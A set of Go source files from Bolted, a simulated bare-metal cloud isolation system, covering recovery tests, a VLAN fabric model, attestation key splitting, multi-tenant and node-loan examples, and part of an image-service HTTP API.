	if _, err := mgr.CreateEnclave("tenant", core.ProfileBob); err != nil {
		t.Fatal(err)
	}

	inj.Set("hil", Profile{ErrorRate: 1})
	for i := 0; i < 3; i++ {
		if _, err := cloud.HIL.FreeNodes(); err == nil {
			t.Fatalf("outage call %d succeeded", i)
		}
	}
	h := mgr.Health()
	if !h.Degraded || h.Backends[core.BackendHIL].State != core.BreakerOpen {
		t.Fatalf("health after outage = %+v", h)
	}
	if _, err := mgr.StartAcquire("tenant", "os", 1); !errors.Is(err, core.ErrDegraded) {
		t.Fatalf("StartAcquire during outage = %v, want ErrDegraded", err)
	}

	inj.Set("hil", Profile{}) // service restored
	time.Sleep(60 * time.Millisecond)
	if _, err := cloud.HIL.FreeNodes(); err != nil {
		t.Fatalf("post-outage probe: %v", err)
	}
	if mgr.Health().Degraded {
		t.Fatal("still degraded after successful probe")
	}
}
