package remote

import (
	"bufio"
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"testing"

	"bolted/internal/core"
	"bolted/internal/store"
)

// startDurableV1Server serves the full /v1 plane over a file-backed
// store rooted at dir — recovering whatever the directory already
// holds first, exactly the way boltedd -data-dir does.
func startDurableV1Server(t *testing.T, dir string, nodes int) (*core.Manager, *core.RecoverReport, *V1Client, *httptest.Server) {
	t.Helper()
	cfg := core.DefaultConfig()
	cfg.Nodes = nodes
	cloud, err := core.NewCloud(cfg)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := cloud.BMI.CreateOSImage("fedora28", testSpec()); err != nil {
		t.Fatal(err)
	}
	st, err := store.Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	mgr := core.NewManagerWithStore(cloud, st)
	report, err := mgr.Recover(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	handler, err := NewHandlerWithManager(cloud, mgr)
	if err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewServer(handler)
	t.Cleanup(srv.Close)
	t.Cleanup(func() { mgr.Close() })
	return mgr, report, NewV1Client(srv.URL), srv
}

// copyStoreDir snapshots a live store directory the way a crash would:
// whatever bytes happen to be on disk right now, torn tail and all.
func copyStoreDir(t *testing.T, src string) string {
	t.Helper()
	dst := t.TempDir()
	for _, name := range []string{"wal.log", "snapshot.json"} {
		b, err := os.ReadFile(filepath.Join(src, name))
		if os.IsNotExist(err) {
			continue
		}
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(dst, name), b, 0o600); err != nil {
			t.Fatal(err)
		}
	}
	return dst
}

// TestV1RecoveryCursorResume is the wire-level acceptance test for the
// durable control plane: a tenant acquires nodes over /v1 against a
// file-backed server, notes an event-stream cursor, the server
// "crashes" (its store directory is copied mid-flight and a second
// server recovers from the copy), and the tenant resumes the NDJSON
// feed with ?after=<cursor> — no gaps, no duplicates — while its
// Idempotency-Key replays to the same operation id.
func TestV1RecoveryCursorResume(t *testing.T) {
	const nodes = 6
	ctx := context.Background()

	dir1 := t.TempDir()
	_, _, cli1, _ := startDurableV1Server(t, dir1, nodes)

	if _, err := cli1.CreateEnclave(ctx, "dur", core.ProfileBob.Name); err != nil {
		t.Fatal(err)
	}
	op, replayed, err := cli1.AcquireIdem(ctx, "dur", "fedora28", 2, "http-key-1")
	if err != nil {
		t.Fatal(err)
	}
	if replayed {
		t.Fatal("a fresh Idempotency-Key answered as a replay")
	}
	if _, err := cli1.WaitOperation(ctx, op.ID); err != nil {
		t.Fatal(err)
	}

	// The tenant streamed the enclave journal up to a mid-feed cursor
	// before the crash.
	var pre []EventInfo
	if err := cli1.EnclaveEvents(ctx, "dur", 0, false, func(ev EventInfo) error {
		pre = append(pre, ev)
		return nil
	}); err != nil {
		t.Fatal(err)
	}
	if len(pre) < 4 {
		t.Fatalf("expected a rich pre-crash journal, got %d events", len(pre))
	}
	for i, ev := range pre {
		if ev.Seq != uint64(i+1) {
			t.Fatalf("pre-crash event %d has seq %d, want %d", i, ev.Seq, i+1)
		}
	}
	cursor := pre[len(pre)/2].Seq

	// Crash: copy the store dir out from under the live server and
	// recover a second control plane from the copy.
	dir2 := copyStoreDir(t, dir1)
	_, report, cli2, srv2 := startDurableV1Server(t, dir2, nodes)
	if len(report.Readopted) != 2 {
		t.Fatalf("re-adopted %v, want the 2 recorded members (rejected %v, released %v)",
			report.Readopted, report.Rejected, report.Released)
	}

	// Resume the feed with the raw ?after= cursor form.
	resumed := fetchEventsAfter(t, srv2.URL, "dur", cursor)
	if len(resumed) == 0 {
		t.Fatal("no events after the resume cursor")
	}
	if resumed[0].Seq != cursor+1 {
		t.Fatalf("resume starts at seq %d, want %d (gap or duplicate)", resumed[0].Seq, cursor+1)
	}
	for i, ev := range resumed {
		if ev.Seq != cursor+uint64(i)+1 {
			t.Fatalf("resumed feed has a seq gap at %d: got %d want %d", i, ev.Seq, cursor+uint64(i)+1)
		}
	}
	// The resumed prefix replays the pre-crash tail byte-for-byte: same
	// seq, kind, node.
	for i := int(cursor); i < len(pre); i++ {
		got := resumed[i-int(cursor)]
		want := pre[i]
		if got.Seq != want.Seq || got.Kind != want.Kind || got.Node != want.Node {
			t.Fatalf("resumed event %d = %+v, pre-crash %+v", i, got, want)
		}
	}

	// ?after=N and ?from=N are the same position, so the client's
	// from-based reader resumes identically.
	var viaFrom []EventInfo
	if err := cli2.EnclaveEvents(ctx, "dur", int(cursor), false, func(ev EventInfo) error {
		viaFrom = append(viaFrom, ev)
		return nil
	}); err != nil {
		t.Fatal(err)
	}
	if len(viaFrom) != len(resumed) || viaFrom[0].Seq != resumed[0].Seq {
		t.Fatalf("?from=%d read %d events starting %d; ?after=%d read %d starting %d",
			cursor, len(viaFrom), viaFrom[0].Seq, cursor, len(resumed), resumed[0].Seq)
	}

	// The pre-crash Idempotency-Key survived the restart: re-sending
	// the same acquire maps back to the recorded operation.
	op2, replayed2, err := cli2.AcquireIdem(ctx, "dur", "fedora28", 2, "http-key-1")
	if err != nil {
		t.Fatal(err)
	}
	if !replayed2 {
		t.Fatal("recovered server treated a recorded Idempotency-Key as new work")
	}
	if op2.ID != op.ID {
		t.Fatalf("replayed key answered operation %s, pre-crash id %s", op2.ID, op.ID)
	}

	// A fresh key runs fresh work: the recovered plane still acquires.
	op3, replayed3, err := cli2.AcquireIdem(ctx, "dur", "fedora28", 1, "http-key-2")
	if err != nil {
		t.Fatal(err)
	}
	if replayed3 {
		t.Fatal("a fresh key replayed")
	}
	fin, err := cli2.WaitOperation(ctx, op3.ID)
	if err != nil {
		t.Fatal(err)
	}
	if fin.Phase != string(core.OpDone) {
		t.Fatalf("post-recovery acquire ended %s: %s", fin.Phase, fin.Error)
	}
}

// fetchEventsAfter reads one non-following NDJSON batch from the
// enclave feed using the ?after= cursor form.
func fetchEventsAfter(t *testing.T, base, enclave string, after uint64) []EventInfo {
	t.Helper()
	resp, err := http.Get(fmt.Sprintf("%s/v1/enclaves/%s/events?after=%d", base, enclave, after))
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("events?after=%d answered %d", after, resp.StatusCode)
	}
	var out []EventInfo
	sc := bufio.NewScanner(resp.Body)
	sc.Buffer(make([]byte, 0, 64*1024), 1024*1024)
	for sc.Scan() {
		if len(sc.Bytes()) == 0 {
			continue
		}
		var ev EventInfo
		if err := json.Unmarshal(sc.Bytes(), &ev); err != nil {
			t.Fatalf("bad NDJSON line %q: %v", sc.Text(), err)
		}
		out = append(out, ev)
	}
	if err := sc.Err(); err != nil {
		t.Fatal(err)
	}
	return out
}
