// Package netsim models the provider's switched network: ports, 802.1Q
// VLAN membership, and link performance. It is the infrastructure that
// HIL (the Hardware Isolation Layer) programs to isolate tenants.
//
// The model captures exactly the properties Bolted's isolation argument
// rests on: two endpoints can exchange traffic if and only if they share
// a VLAN, and VLANs are allocated from a finite pool the provider owns.
// Frame forwarding performance is modelled analytically via LinkSpec so
// the discrete-event simulation can charge realistic transfer times.
package netsim

import (
	"errors"
	"fmt"
	"sort"
	"sync"
)

// VLANID identifies an 802.1Q VLAN (valid range 1-4094).
type VLANID int

// Fabric is the provider's switch infrastructure. Safe for concurrent use.
type Fabric struct {
	mu        sync.RWMutex
	ports     map[string]*Port
	vlanPool  []VLANID // free VLANs, ascending
	allocated map[VLANID]string
	isolated  map[VLANID]bool // private VLANs: hosts reach only promiscuous ports
}

// Port is a switch port a node NIC or service host plugs into.
type Port struct {
	name    string
	vlans   map[VLANID]bool
	promisc map[VLANID]bool // promiscuous membership on private VLANs
}

// Name returns the port's name.
func (p *Port) Name() string { return p.name }

// NewFabric creates a fabric with the VLAN range [lo, hi] available for
// allocation (the provider's trunk allowance).
func NewFabric(lo, hi VLANID) (*Fabric, error) {
	if lo < 1 || hi > 4094 || lo > hi {
		return nil, fmt.Errorf("netsim: invalid VLAN range %d-%d", lo, hi)
	}
	f := &Fabric{
		ports:     make(map[string]*Port),
		allocated: make(map[VLANID]string),
		isolated:  make(map[VLANID]bool),
	}
	for v := lo; v <= hi; v++ {
		f.vlanPool = append(f.vlanPool, v)
	}
	return f, nil
}

// AddPort registers a new port. Port names must be unique.
func (f *Fabric) AddPort(name string) (*Port, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	if _, ok := f.ports[name]; ok {
		return nil, fmt.Errorf("netsim: port %q already exists", name)
	}
	p := &Port{name: name, vlans: make(map[VLANID]bool), promisc: make(map[VLANID]bool)}
	f.ports[name] = p
	return p, nil
}

// AllocateVLAN takes a VLAN from the free pool, tagging it with an owner
// label for diagnostics.
func (f *Fabric) AllocateVLAN(owner string) (VLANID, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	if len(f.vlanPool) == 0 {
		return 0, errors.New("netsim: VLAN pool exhausted")
	}
	v := f.vlanPool[0]
	f.vlanPool = f.vlanPool[1:]
	f.allocated[v] = owner
	return v, nil
}

// FreeVLAN returns a VLAN to the pool. All ports must have been detached
// from it first; freeing a VLAN with members would silently merge
// networks later, so it is an error.
func (f *Fabric) FreeVLAN(v VLANID) error {
	f.mu.Lock()
	defer f.mu.Unlock()
	if _, ok := f.allocated[v]; !ok {
		return fmt.Errorf("netsim: VLAN %d not allocated", v)
	}
	for _, p := range f.ports {
		if p.vlans[v] {
			return fmt.Errorf("netsim: VLAN %d still has member port %q", v, p.name)
		}
	}
	delete(f.allocated, v)
	delete(f.isolated, v)
	f.vlanPool = append(f.vlanPool, v)
	sort.Slice(f.vlanPool, func(i, j int) bool { return f.vlanPool[i] < f.vlanPool[j] })
	return nil
}

// SetVLANIsolated marks a VLAN as a private VLAN: host members can
// reach promiscuous members (service ports) but not each other. This is
// how the shared provisioning and attestation networks keep tenants'
// nodes — and concurrently airlocked nodes — from seeing one another.
func (f *Fabric) SetVLANIsolated(v VLANID, isolated bool) error {
	f.mu.Lock()
	defer f.mu.Unlock()
	if _, ok := f.allocated[v]; !ok {
		return fmt.Errorf("netsim: VLAN %d not allocated", v)
	}
	f.isolated[v] = isolated
	return nil
}

// AttachPromiscuous adds a port to a VLAN as a promiscuous member: on a
// private VLAN it can exchange traffic with every member.
func (f *Fabric) AttachPromiscuous(port string, v VLANID) error {
	if err := f.Attach(port, v); err != nil {
		return err
	}
	f.mu.Lock()
	defer f.mu.Unlock()
	f.ports[port].promisc[v] = true
	return nil
}

// VLANOwner reports the owner label of an allocated VLAN.
func (f *Fabric) VLANOwner(v VLANID) (string, bool) {
	f.mu.RLock()
	defer f.mu.RUnlock()
	o, ok := f.allocated[v]
	return o, ok
}

// Attach adds a port to a VLAN (switchport trunk allowed vlan add).
func (f *Fabric) Attach(port string, v VLANID) error {
	f.mu.Lock()
	defer f.mu.Unlock()
	p, ok := f.ports[port]
	if !ok {
		return fmt.Errorf("netsim: unknown port %q", port)
	}
	if _, ok := f.allocated[v]; !ok {
		return fmt.Errorf("netsim: VLAN %d not allocated", v)
	}
	p.vlans[v] = true
	return nil
}

// Detach removes a port from a VLAN.
func (f *Fabric) Detach(port string, v VLANID) error {
	f.mu.Lock()
	defer f.mu.Unlock()
	p, ok := f.ports[port]
	if !ok {
		return fmt.Errorf("netsim: unknown port %q", port)
	}
	if !p.vlans[v] {
		return fmt.Errorf("netsim: port %q not on VLAN %d", port, v)
	}
	delete(p.vlans, v)
	delete(p.promisc, v)
	return nil
}

// DetachAll removes a port from every VLAN (the quarantine primitive used
// when a node is released or rejected).
func (f *Fabric) DetachAll(port string) error {
	f.mu.Lock()
	defer f.mu.Unlock()
	p, ok := f.ports[port]
	if !ok {
		return fmt.Errorf("netsim: unknown port %q", port)
	}
	p.vlans = make(map[VLANID]bool)
	p.promisc = make(map[VLANID]bool)
	return nil
}

// VLANsOf returns the VLANs a port is attached to, ascending.
func (f *Fabric) VLANsOf(port string) ([]VLANID, error) {
	f.mu.RLock()
	defer f.mu.RUnlock()
	p, ok := f.ports[port]
	if !ok {
		return nil, fmt.Errorf("netsim: unknown port %q", port)
	}
	var out []VLANID
	for v := range p.vlans {
		out = append(out, v)
	}
	sort.Slice(out, func(i, j int) bool { return out[i] < out[j] })
	return out, nil
}

// Reachable reports whether two ports share at least one VLAN. This is
// the fabric's ground-truth isolation predicate: every message path in
// the Bolted model consults it.
func (f *Fabric) Reachable(a, b string) bool {
	f.mu.RLock()
	defer f.mu.RUnlock()
	pa, ok := f.ports[a]
	if !ok {
		return false
	}
	pb, ok := f.ports[b]
	if !ok {
		return false
	}
	for v := range pa.vlans {
		if !pb.vlans[v] {
			continue
		}
		// On a private VLAN, two plain host ports cannot exchange
		// traffic; at least one end must be promiscuous.
		if f.isolated[v] && !pa.promisc[v] && !pb.promisc[v] {
			continue
		}
		return true
	}
	return false
}

// CheckReachable returns a descriptive error when two ports cannot talk.
func (f *Fabric) CheckReachable(a, b string) error {
	if !f.Reachable(a, b) {
		return fmt.Errorf("netsim: %q and %q share no VLAN (isolated)", a, b)
	}
	return nil
}

// Members returns the ports attached to a VLAN, sorted by name.
func (f *Fabric) Members(v VLANID) []string {
	f.mu.RLock()
	defer f.mu.RUnlock()
	var out []string
	for name, p := range f.ports {
		if p.vlans[v] {
			out = append(out, name)
		}
	}
	sort.Strings(out)
	return out
}
