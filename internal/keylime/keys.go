// Package keylime implements Bolted's remote attestation and key
// management service, modelled on Keylime (§5): a Registrar that binds
// AIKs to TPM endorsement keys via credential activation, a Cloud
// Verifier that checks quotes against whitelists and releases key
// material, an Agent that runs on the attested node, and tenant-side
// helpers. The bootstrap key is split U/V so that neither the verifier
// nor the tenant channel alone can decrypt the payload delivered to the
// node (kernel, initrd, boot script, disk and network keys).
package keylime

import (
	"crypto/rand"
	"errors"
	"io"
)

// KeySize is the bootstrap key length (AES-256).
const KeySize = 32

// NewBootstrapKey generates a fresh random bootstrap key K.
func NewBootstrapKey() []byte {
	k := make([]byte, KeySize)
	if _, err := io.ReadFull(rand.Reader, k); err != nil {
		panic("keylime: entropy source failed: " + err.Error())
	}
	return k
}

// SplitKey splits K into shares U and V such that K = U xor V. The
// tenant delivers U to the agent directly; the verifier releases V only
// after attestation succeeds. Either share alone is information-
// theoretically useless.
func SplitKey(k []byte) (u, v []byte, err error) {
	if len(k) != KeySize {
		return nil, nil, errors.New("keylime: bootstrap key must be 32 bytes")
	}
	v = make([]byte, KeySize)
	if _, err := io.ReadFull(rand.Reader, v); err != nil {
		return nil, nil, err
	}
	u = make([]byte, KeySize)
	for i := range k {
		u[i] = k[i] ^ v[i]
	}
	return u, v, nil
}

// CombineKey reassembles K from its shares.
func CombineKey(u, v []byte) ([]byte, error) {
	if len(u) != KeySize || len(v) != KeySize {
		return nil, errors.New("keylime: key shares must be 32 bytes")
	}
	k := make([]byte, KeySize)
	for i := range k {
		k[i] = u[i] ^ v[i]
	}
	return k, nil
}
