// Multi-tenant: Alice, Bob and Charlie (§4.3) share one cloud, each
// paying only for the security they choose — the paper's core economic
// argument. The example shows all three coexisting, cross-tenant
// isolation on the shared fabric, and what each pays at provisioning
// time (the Figure-4 numbers for their configurations).
package main

import (
	"context"
	"fmt"
	"log"
	"time"

	"bolted"
)

func main() {
	cfg := bolted.DefaultConfig()
	cfg.Nodes = 6
	cloud, err := bolted.NewCloud(cfg)
	if err != nil {
		log.Fatal(err)
	}
	if _, err := cloud.BMI.CreateOSImage("ubuntu", bolted.OSImageSpec{
		KernelID: "ubuntu-4.15",
		Kernel:   []byte("vmlinuz-generic"),
		Initrd:   []byte("initrd-generic"),
	}); err != nil {
		log.Fatal(err)
	}

	tenants := []struct {
		profile bolted.Profile
		desc    string
		sec     bolted.SecurityLevel
	}{
		{bolted.ProfileAlice, "grad student: fastest, cheapest, trusts everyone", bolted.SecNone},
		{bolted.ProfileBob, "professor: distrusts other tenants, trusts provider", bolted.SecAttested},
		{bolted.ProfileCharlie, "security-sensitive: distrusts the provider too", bolted.SecFull},
	}

	enclaves := make(map[string]*bolted.Enclave)
	nodes := make(map[string]*bolted.Node)
	for _, t := range tenants {
		e, err := bolted.NewEnclave(cloud, t.profile.Name, t.profile)
		if err != nil {
			log.Fatal(err)
		}
		if t.profile.ContinuousAttest {
			e.IMAWhitelist().AllowContent("/usr/bin/app", []byte("app"))
		}
		n, err := e.AcquireNode(context.Background(), "ubuntu")
		if err != nil {
			log.Fatal(err)
		}
		enclaves[t.profile.Name] = e
		nodes[t.profile.Name] = n
		fmt.Printf("%-8s %-52s -> %s\n", t.profile.Name, t.desc, n.Name)
	}

	// Isolation: tenants share switches but never VLANs. Alice's node
	// cannot reach Charlie's.
	alicePort, _ := cloud.HIL.NodePort(nodes["alice"].Name)
	charliePort, _ := cloud.HIL.NodePort(nodes["charlie"].Name)
	fmt.Printf("\nfabric: alice <-> charlie reachable: %v (provider VLAN isolation)\n",
		cloud.Fabric.Reachable(alicePort, charliePort))

	// What each tenant pays at provisioning time (Figure 4).
	fmt.Println("\nprovisioning cost by security choice (simulated, paper-calibrated):")
	for _, t := range tenants {
		pc := bolted.DefaultProvisionConfig()
		pc.Security = t.sec
		r := bolted.SimulateProvisioning(pc)
		fmt.Printf("  %-8s %-18v %8s\n", t.profile.Name, t.sec, r.Makespan.Round(time.Second))
	}

	// And at runtime, per application (Figure 7): Alice/Bob run
	// unencrypted; Charlie pays the LUKS+IPsec tax he chose.
	fmt.Println("\nruntime cost of Charlie's encryption (degradation vs Alice/Bob):")
	for _, app := range bolted.Figure7Apps {
		fmt.Printf("  %-14s %6.1f%%\n", app.Name,
			app.Degradation(bolted.SecConfig{LUKS: true, IPsec: true})*100)
	}
}
