// Co-location loan: the use case Bolted is going into production for
// (§4.3) — datacenter partners temporarily "loan" computers to each
// other to absorb demand bursts. Org B's IaaS cloud has spare capacity;
// Org A's HPC cluster is overloaded. Org A borrows nodes through Org
// B's isolation service but runs ITS OWN attestation (it trusts the
// partner's physical isolation, so it skips network encryption, but it
// will not run jobs on firmware it has not verified).
package main

import (
	"context"
	"fmt"
	"log"

	"bolted"
	"bolted/internal/firmware"
)

func main() {
	// Org B's cloud: the lending party operates HIL and the fabric.
	cfg := bolted.DefaultConfig()
	cfg.Nodes = 8
	cloud, err := bolted.NewCloud(cfg)
	if err != nil {
		log.Fatal(err)
	}

	// Org A brings its own OS image (its HPC software stack) into the
	// partner's provisioning service.
	if _, err := cloud.BMI.CreateOSImage("orga-hpc", bolted.OSImageSpec{
		KernelID: "orga-mpi-4.17",
		Kernel:   []byte("vmlinuz-orga"),
		Initrd:   []byte("initramfs-orga-mpi"),
		Cmdline:  "root=iscsi hugepages=512",
	}); err != nil {
		log.Fatal(err)
	}

	// Org A's posture: tenant-deployed attestation (it verifies the
	// partner's firmware itself), but no LUKS/IPsec — §4.3: "trusting
	// the partner's isolation service makes network encryption
	// unnecessary for communication with servers obtained from it."
	loanProfile := bolted.Profile{
		Name:           "orga-loan",
		Attest:         true,
		TenantVerifier: true,
	}
	enclave, err := bolted.NewEnclave(cloud, "orga-burst", loanProfile)
	if err != nil {
		log.Fatal(err)
	}

	// One of the partner's nodes has stale (here: tampered) firmware —
	// perhaps a previous research tenant left an implant. Org A's own
	// attestation catches it without trusting Org B's word.
	m, err := cloud.Machine("node00")
	if err != nil {
		log.Fatal(err)
	}
	evil := firmware.BuildLinuxBoot("heads-v1.0", []byte("implanted build"))
	m.ReflashFirmware(firmware.NewLinuxBoot(evil, "m620"))

	fmt.Println("demand burst: borrowing 4 nodes from partner cloud")
	var borrowed []*bolted.Node
	for len(borrowed) < 4 {
		n, err := enclave.AcquireNode(context.Background(), "orga-hpc")
		if err != nil {
			fmt.Printf("  rejected a node: %v\n", errShort(err))
			continue
		}
		fmt.Printf("  borrowed %s (attested by Org A's own verifier)\n", n.Name)
		borrowed = append(borrowed, n)
	}
	fmt.Printf("rejected pool (partner forensics): %d node(s)\n", len(cloud.Rejected()))

	// Burst over: return everything. Diskless provisioning means Org
	// A's job data never touched the partner's node-local disks.
	for _, n := range borrowed {
		if err := enclave.ReleaseNode(n.Name, ""); err != nil {
			log.Fatal(err)
		}
	}
	free, _ := cloud.HIL.FreeNodes()
	fmt.Printf("burst over: nodes returned, free pool = %d\n", len(free))
}

func errShort(err error) string {
	s := err.Error()
	if len(s) > 96 {
		return s[:96] + "..."
	}
	return s
}
