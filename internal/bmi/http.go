package bmi

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/url"

	"bolted/internal/blockdev"
)

// This file provides BMI's REST surface so tenant tooling and the
// transport-agnostic orchestrator can manage images AND boot exports
// remotely — mirroring the real M2/BMI HTTP API. Binary image content
// travels base64-encoded inside JSON (the volumes here are
// simulation-sized); block I/O against an export travels as raw
// request/response frames of the blockdev wire protocol, the
// iSCSI-like path a diskless node uses to page in its image.

// errHeader carries the sentinel-error class out of band so clients can
// reconstruct errors.Is semantics across the wire.
const errHeader = "X-Bolted-Error"

// Sentinel wire tags.
const (
	errTagNotFound = "not-found"
	errTagExists   = "exists"
	errTagInUse    = "in-use"
)

// NewHandler exposes a Service over HTTP.
func NewHandler(s *Service) http.Handler {
	mux := http.NewServeMux()

	writeErr := func(w http.ResponseWriter, err error) {
		code := http.StatusInternalServerError
		switch {
		case errors.Is(err, ErrNotFound):
			w.Header().Set(errHeader, errTagNotFound)
			code = http.StatusNotFound
		case errors.Is(err, ErrExists):
			w.Header().Set(errHeader, errTagExists)
			code = http.StatusConflict
		case errors.Is(err, ErrInUse):
			w.Header().Set(errHeader, errTagInUse)
			code = http.StatusConflict
		}
		http.Error(w, err.Error(), code)
	}
	writeJSON := func(w http.ResponseWriter, v interface{}) {
		w.Header().Set("Content-Type", "application/json")
		if err := json.NewEncoder(w).Encode(v); err != nil {
			http.Error(w, err.Error(), http.StatusInternalServerError)
		}
	}

	mux.HandleFunc("GET /images", func(w http.ResponseWriter, r *http.Request) {
		imgs, err := s.ListImages()
		if err != nil {
			writeErr(w, err)
			return
		}
		writeJSON(w, imgs)
	})
	mux.HandleFunc("GET /images/{name}", func(w http.ResponseWriter, r *http.Request) {
		img, err := s.GetImage(r.PathValue("name"))
		if err != nil {
			writeErr(w, err)
			return
		}
		writeJSON(w, map[string]interface{}{
			"name": img.Name, "size": img.Size, "snapshot": img.Snapshot,
		})
	})
	mux.HandleFunc("PUT /images/{name}", func(w http.ResponseWriter, r *http.Request) {
		var req struct {
			Size int64
			OS   *OSImageSpec
		}
		if err := json.NewDecoder(r.Body).Decode(&req); err != nil {
			http.Error(w, err.Error(), http.StatusBadRequest)
			return
		}
		var err error
		if req.OS != nil {
			_, err = s.CreateOSImage(r.PathValue("name"), *req.OS)
		} else {
			_, err = s.CreateImage(r.Context(), r.PathValue("name"), req.Size)
		}
		if err != nil {
			writeErr(w, err)
			return
		}
		w.WriteHeader(http.StatusCreated)
	})
	mux.HandleFunc("DELETE /images/{name}", func(w http.ResponseWriter, r *http.Request) {
		if err := s.DeleteImage(r.Context(), r.PathValue("name")); err != nil {
			writeErr(w, err)
		}
	})
	mux.HandleFunc("POST /images/{name}/clone", func(w http.ResponseWriter, r *http.Request) {
		var req struct {
			Target   string
			Snapshot bool
		}
		if err := json.NewDecoder(r.Body).Decode(&req); err != nil {
			http.Error(w, err.Error(), http.StatusBadRequest)
			return
		}
		var err error
		if req.Snapshot {
			_, err = s.SnapshotImage(r.Context(), r.PathValue("name"), req.Target)
		} else {
			_, err = s.CloneImage(r.Context(), r.PathValue("name"), req.Target)
		}
		if err != nil {
			writeErr(w, err)
			return
		}
		w.WriteHeader(http.StatusCreated)
	})
	mux.HandleFunc("GET /images/{name}/bootinfo", func(w http.ResponseWriter, r *http.Request) {
		bi, err := s.ExtractBootInfo(r.Context(), r.PathValue("name"))
		if err != nil {
			writeErr(w, err)
			return
		}
		writeJSON(w, bi)
	})
	mux.HandleFunc("PUT /exports/{node}", func(w http.ResponseWriter, r *http.Request) {
		var req struct {
			Image string
			Cow   bool
		}
		if err := json.NewDecoder(r.Body).Decode(&req); err != nil {
			http.Error(w, err.Error(), http.StatusBadRequest)
			return
		}
		if _, err := s.ExportForBoot(r.Context(), r.PathValue("node"), req.Image, req.Cow); err != nil {
			writeErr(w, err)
			return
		}
		w.WriteHeader(http.StatusCreated)
	})
	mux.HandleFunc("DELETE /exports/{node}", func(w http.ResponseWriter, r *http.Request) {
		saveAs := r.URL.Query().Get("save-as")
		if err := s.Unexport(r.Context(), r.PathValue("node"), saveAs); err != nil {
			writeErr(w, err)
		}
	})
	mux.HandleFunc("POST /exports/{node}/io", func(w http.ResponseWriter, r *http.Request) {
		e, err := s.GetExport(r.PathValue("node"))
		if err != nil {
			writeErr(w, err)
			return
		}
		frame, err := io.ReadAll(r.Body)
		if err != nil {
			http.Error(w, err.Error(), http.StatusBadRequest)
			return
		}
		resp, err := e.Target.Handle(frame)
		if err != nil {
			// Device-level failures travel in-band as protocol error
			// frames; only a malformed frame lands here.
			http.Error(w, err.Error(), http.StatusBadRequest)
			return
		}
		w.Header().Set("Content-Type", "application/octet-stream")
		w.Write(resp)
	})
	return mux
}

// Client is an HTTP client for a remote BMI service. Its methods mirror
// *Service exactly, including sentinel-error semantics: errors.Is
// against ErrNotFound / ErrExists / ErrInUse behaves the same whether
// the service is in-process or across the wire.
type Client struct {
	Base string
	HTTP *http.Client
}

// NewClient returns a client for the BMI API at base URL.
func NewClient(base string) *Client {
	return &Client{Base: base, HTTP: http.DefaultClient}
}

// sentinelFor maps a response back to the service's sentinel errors,
// preferring the explicit error header, falling back to the status
// code for servers that predate it (where ErrExists and ErrInUse are
// indistinguishable and map to ErrExists).
func sentinelFor(resp *http.Response) error {
	switch resp.Header.Get(errHeader) {
	case errTagNotFound:
		return ErrNotFound
	case errTagExists:
		return ErrExists
	case errTagInUse:
		return ErrInUse
	}
	switch resp.StatusCode {
	case http.StatusNotFound:
		return ErrNotFound
	case http.StatusConflict:
		return ErrExists
	}
	return nil
}

func (c *Client) do(ctx context.Context, method, path string, body, out interface{}) error {
	var rd io.Reader
	if body != nil {
		b, err := json.Marshal(body)
		if err != nil {
			return err
		}
		rd = bytes.NewReader(b)
	}
	req, err := http.NewRequestWithContext(ctx, method, c.Base+path, rd)
	if err != nil {
		return err
	}
	resp, err := c.HTTP.Do(req)
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	if resp.StatusCode >= 400 {
		msg, _ := io.ReadAll(resp.Body)
		if sentinel := sentinelFor(resp); sentinel != nil {
			return fmt.Errorf("%w: %s %s: %s", sentinel, method, path, bytes.TrimSpace(msg))
		}
		return fmt.Errorf("bmi: %s %s: %s: %s", method, path, resp.Status, bytes.TrimSpace(msg))
	}
	if out != nil {
		return json.NewDecoder(resp.Body).Decode(out)
	}
	// Drain the (ignored, small) body so the keep-alive connection
	// goes back to the pool instead of being torn down.
	_, _ = io.Copy(io.Discard, resp.Body)
	return nil
}

// ListImages lists image names.
func (c *Client) ListImages() ([]string, error) {
	var out []string
	err := c.do(context.Background(), "GET", "/images", nil, &out)
	return out, err
}

// GetImage looks up an image.
func (c *Client) GetImage(name string) (*Image, error) {
	var out struct {
		Name     string `json:"name"`
		Size     int64  `json:"size"`
		Snapshot bool   `json:"snapshot"`
	}
	if err := c.do(context.Background(), "GET", "/images/"+url.PathEscape(name), nil, &out); err != nil {
		return nil, err
	}
	return &Image{Name: out.Name, Size: out.Size, Snapshot: out.Snapshot}, nil
}

// CreateImage allocates an empty image.
func (c *Client) CreateImage(ctx context.Context, name string, size int64) (*Image, error) {
	if err := c.do(ctx, "PUT", "/images/"+url.PathEscape(name), map[string]interface{}{"Size": size}, nil); err != nil {
		return nil, err
	}
	return &Image{Name: name, Size: size}, nil
}

// CreateOSImage builds a bootable OS image remotely.
func (c *Client) CreateOSImage(name string, spec OSImageSpec) (*Image, error) {
	if err := c.do(context.Background(), "PUT", "/images/"+url.PathEscape(name), map[string]interface{}{"OS": &spec}, nil); err != nil {
		return nil, err
	}
	return c.GetImage(name)
}

// DeleteImage removes an image.
func (c *Client) DeleteImage(ctx context.Context, name string) error {
	return c.do(ctx, "DELETE", "/images/"+url.PathEscape(name), nil, nil)
}

// CloneImage copies an image.
func (c *Client) CloneImage(ctx context.Context, src, dst string) (*Image, error) {
	if err := c.do(ctx, "POST", "/images/"+url.PathEscape(src)+"/clone", map[string]interface{}{"Target": dst}, nil); err != nil {
		return nil, err
	}
	return c.GetImage(dst)
}

// SnapshotImage creates an immutable snapshot.
func (c *Client) SnapshotImage(ctx context.Context, src, snap string) (*Image, error) {
	if err := c.do(ctx, "POST", "/images/"+url.PathEscape(src)+"/clone", map[string]interface{}{"Target": snap, "Snapshot": true}, nil); err != nil {
		return nil, err
	}
	return c.GetImage(snap)
}

// ExtractBootInfo fetches an image's kernel/initrd/cmdline.
func (c *Client) ExtractBootInfo(ctx context.Context, name string) (*BootInfo, error) {
	var out BootInfo
